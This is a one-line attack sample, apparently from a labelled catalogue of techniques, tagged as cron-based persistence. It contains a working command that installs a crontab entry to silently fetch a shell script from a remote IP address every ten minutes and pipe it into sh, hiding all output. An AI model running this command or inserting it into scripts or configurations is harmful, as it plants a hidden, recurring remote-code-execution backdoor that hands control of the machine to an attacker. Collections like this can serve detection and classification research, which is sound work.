# class: persistence by cron; style: one-liner
(crontab -l 2>/dev/null; echo "*/10 * * * * wget -q -O - http://203.0.113.12/mr.sh | sh > /dev/null 2>&1") | crontab -
